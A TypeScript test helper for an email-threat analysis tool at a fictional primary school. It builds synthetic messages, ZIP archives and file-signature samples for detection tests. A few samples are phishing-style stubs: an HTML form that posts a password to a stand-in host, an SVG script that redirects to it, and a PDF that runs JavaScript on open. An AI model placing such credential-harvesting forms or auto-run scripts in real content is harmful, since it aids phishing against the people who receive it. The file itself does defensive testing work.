import { crc32 } from 'node:zlib';
import type { AnalysisContext, EmailAnalysis, Signal } from '../../../src/analysis/index.ts';

/**
 * Builds small synthetic .eml messages for the analysis tests: headers in the order given (top first, as a
 * receiving server would leave them), an optional text and HTML body, and attachments encoded as base64.
 */

export interface TestAttachment {
  filename: string;
  contentType?: string;
  content: Buffer | string;
  inline?: boolean;
  contentId?: string;
}

export interface EmlOptions {
  /** Headers placed above everything else, e.g. Authentication-Results stamped on receipt. */
  top?: string[];
  from?: string;
  to?: string;
  cc?: string;
  replyTo?: string;
  returnPath?: string;
  subject?: string;
  /** Further headers after the standard ones. */
  extra?: string[];
  text?: string;
  html?: string;
  attachments?: TestAttachment[];
}

export const OWN = 'bob.jones@oakfield.sch.uk';

function encodeHeader(value: string): string {
  // Non-ASCII header values travel as RFC 2047 encoded words, as a real client would send them.
  // eslint-disable-next-line no-control-regex
  return /[^\x00-\x7f]/.test(value) ? `=?UTF-8?B?${Buffer.from(value, 'utf8').toString('base64')}?=` : value;
}

/** "Name <address>" with the name encoded when it is not ASCII. */
export function mailbox(name: string, address: string): string {
  // eslint-disable-next-line no-control-regex
  return /[^\x00-\x7f]/.test(name) ? `${encodeHeader(name)} <${address}>` : `"${name}" <${address}>`;
}

function base64Lines(content: Buffer | string): string {
  const buf = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
  return buf.toString('base64').replace(/.{76}/g, '$&\r\n');
}

export function eml(options: EmlOptions = {}): string {
  const lines: string[] = [...(options.top ?? [])];
  if (options.returnPath) lines.push(`Return-Path: <${options.returnPath}>`);
  lines.push(`From: ${options.from ?? '"Sam Parent" <sam.parent@example.org>'}`);
  lines.push(`To: ${options.to ?? `"Bob Jones" <${OWN}>`}`);
  if (options.cc) lines.push(`Cc: ${options.cc}`);
  if (options.replyTo) lines.push(`Reply-To: ${options.replyTo}`);
  lines.push(`Subject: ${encodeHeader(options.subject ?? 'School trip on Friday')}`);
  lines.push('Date: Mon, 3 Feb 2025 09:00:00 +0000');
  lines.push('Message-ID: <test-1@example.org>');
  lines.push('MIME-Version: 1.0');
  lines.push(...(options.extra ?? []));

  const text = options.text ?? (options.html ? undefined : 'Hello, see you on Friday.');
  const textPart = (type: string, body: string) => [`Content-Type: ${type}; charset=utf-8`, 'Content-Transfer-Encoding: base64', '', base64Lines(body)].join('\r\n');
  let body: string;
  if (text !== undefined && options.html !== undefined) body = ['Content-Type: multipart/alternative; boundary="alt-1"', '', '--alt-1', textPart('text/plain', text), '--alt-1', textPart('text/html', options.html), '--alt-1--', ''].join('\r\n');
  else if (options.html !== undefined) body = textPart('text/html', options.html);
  else body = textPart('text/plain', text ?? '');

  if (!options.attachments?.length) return `${lines.join('\r\n')}\r\n${body}\r\n`;
  const parts = [body];
  for (const a of options.attachments) {
    const disposition = a.inline ? 'inline' : 'attachment';
    parts.push(
      [
        `Content-Type: ${a.contentType ?? 'application/octet-stream'}; name="${encodeHeader(a.filename)}"`,
        `Content-Disposition: ${disposition}; filename="${encodeHeader(a.filename)}"`,
        ...(a.contentId ? [`Content-ID: <${a.contentId}>`] : []),
        'Content-Transfer-Encoding: base64',
        '',
        base64Lines(a.content),
      ].join('\r\n'),
    );
  }
  lines.push('Content-Type: multipart/mixed; boundary="mix-1"');
  return `${lines.join('\r\n')}\r\n\r\nThis is a multi-part message.\r\n${parts.map((p) => `--mix-1\r\n${p}\r\n`).join('')}--mix-1--\r\n`;
}

/** The usual test school. Bob Jones (a teacher) is the one reporting. */
export function school(overrides: Partial<AnalysisContext> = {}): AnalysisContext {
  return {
    schoolName: 'Oakfield Primary School',
    schoolDomains: ['oakfield.sch.uk'],
    staffNames: ['Jane Smith', 'Bob Jones', 'Priya Patel', 'Tomasz Nowak'],
    ownAddresses: [OWN],
    ...overrides,
  };
}

export function codes(result: EmailAnalysis): string[] {
  return result.signals.map((s) => s.code);
}

export function signal(result: EmailAnalysis, code: string): Signal | undefined {
  return result.signals.find((s) => s.code === code);
}

/** Microsoft 365's own stamp (no authserv-id, always compauth). */
export function microsoftResults(results: { spf?: string; dkim?: string; dmarc?: string; compauth?: string; from?: string }): string {
  const from = results.from ?? 'example.org';
  return (
    `Authentication-Results: spf=${results.spf ?? 'pass'} (sender IP is 192.0.2.1)\r\n smtp.mailfrom=${from}; dkim=${results.dkim ?? 'pass'} (signature was verified)\r\n` +
    ` header.d=${from};dmarc=${results.dmarc ?? 'pass'} action=none\r\n header.from=${from};compauth=${results.compauth ?? 'pass'} reason=${results.compauth === 'fail' ? '000' : '100'}`
  );
}

/** A minimal ZIP (stored, no compression) with the given entries. */
export function zip(entries: { name: string; content: Buffer | string; encrypted?: boolean }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = typeof entry.content === 'string' ? Buffer.from(entry.content) : entry.content;
    const name = Buffer.from(entry.name, 'utf8');
    const flags = entry.encrypted ? 1 : 0;
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** Contents that start with each format's signature. */
export const samples = {
  exe: () => {
    const b = Buffer.alloc(256);
    b.write('MZ', 0, 'latin1');
    b.writeUInt32LE(128, 0x3c);
    b.write('PE\0\0', 128, 'latin1');
    return b;
  },
  iso: () => {
    const b = Buffer.alloc(0x8800);
    b[0x8000] = 1;
    b.write('CD001', 0x8001, 'latin1');
    return b;
  },
  ole2: (macros: boolean) => {
    const b = Buffer.alloc(4096);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(b, 0);
    Buffer.from('WordDocument', 'utf16le').copy(b, 1024);
    if (macros) Buffer.from('_VBA_PROJECT', 'utf16le').copy(b, 2048);
    return b;
  },
  docx: (macros: boolean) =>
    zip([
      { name: '[Content_Types].xml', content: '<?xml version="1.0"?><Types/>' },
      { name: 'word/document.xml', content: '<w:document/>' },
      ...(macros ? [{ name: 'word/vbaProject.bin', content: samples.ole2(true) }] : []),
    ]),
  lnk: () => Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]), Buffer.alloc(60)]),
  ics: () => 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Parents evening\r\nDTSTART:20250301T170000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n',
  mobileconfig: () =>
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadContent</key><array/><key>PayloadType</key><string>Configuration</string></dict></plist>\n',
  pdf: (active: boolean) => `%PDF-1.7\n1 0 obj << /Type /Catalog ${active ? '/OpenAction 2 0 R' : ''} >> endobj\n${active ? '2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n' : ''}%%EOF\n`,
  html: () => '<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form action="https://collect.example/p"><input name="password"></form></body></html>\n',
  png: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64)]),
  onenote: () => Buffer.concat([Buffer.from([0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3]), Buffer.alloc(64)]),
  svg: (script: boolean) => `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${script ? '<script>location.href="https://collect.example/"</script>' : '<rect width="10" height="10"/>'}</svg>\n`,
};
